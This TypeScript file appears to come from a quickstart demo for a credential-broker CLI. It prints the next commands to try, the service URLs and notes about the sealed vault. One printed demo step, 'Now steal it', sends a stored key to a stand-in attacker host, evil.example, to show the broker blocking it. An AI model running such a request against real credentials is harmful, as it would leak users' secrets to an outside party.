import type { Narrator } from './narrator.js';
import type { QuickstartFolder, QuickstartState } from './state-file.js';

/** What to do next, as commands that work as printed. */
export function printNextSteps(narrator: Narrator, state: QuickstartState): void {
  for (const line of [
    '',
    'Now your own key. One after the other, here or in another terminal in this folder:',
    '  npx chancery credential store my_key --domain api.openai.com      # asks for the value',
    '  npx chancery credential grant my_key --agent scribe',
    '  npx chancery execute my_key https://api.openai.com/v1/models --agent scribe',
    'Now steal it:',
    '  npx chancery execute my_key https://evil.example/steal --agent scribe',
    `  npx chancery execute ${state.credential} https://api.upstream.test/v1/echo --agent scribe`,
    '  npx chancery emergency activate --reason "suspected breach" && npx chancery emergency status',
    '  npx chancery audit verify',
  ]) {
    narrator.line(line);
  }
}

export function printSurfaces(narrator: Narrator, state: QuickstartState, folder: QuickstartFolder): void {
  narrator.line();
  narrator.line(`Tenant surface  ${state.tenantUrl}   API reference ${state.tenantUrl}/reference`);
  narrator.line(`Public surface  ${state.publicUrl}`);
  narrator.line(`Ops surface     ${state.opsUrl}`);
  narrator.line(
    `Every key of this demonstration is in ${folder.path('quickstart.json')} (0600). It is a demonstration:`,
  );
  narrator.line('an agent under the same OS user could read that file. For real use see "Self-hosting" in the README.');
  narrator.line('It stays up until Ctrl-C.');
}

/** A later start: the data is there, the keys are not in memory, and the story was told. */
export function printLaterStart(narrator: Narrator, sealed: boolean): void {
  narrator.line(
    'Started with the data of last time. (The story is told at the first start; -- --reset tells it anew.)',
  );
  if (!sealed) return;
  narrator.line('The vault is sealed, as after every start: the master password was in memory only.');
  narrator.line('  npx chancery unseal             # asks for the password the first start printed');
  narrator.line('Lost it? Nobody can recover it. Start over with: npm run quickstart -- --reset');
}

/** With --exit, where no server is left for commands. */
export function printStoryEnd(narrator: Narrator, folder: QuickstartFolder): void {
  narrator.line();
  narrator.line('Stopped, as --exit asked. Without it the server stays up, for your own keys: npm run quickstart');
  narrator.line(`Every key of this demonstration is in ${folder.path('quickstart.json')} (0600).`);
}
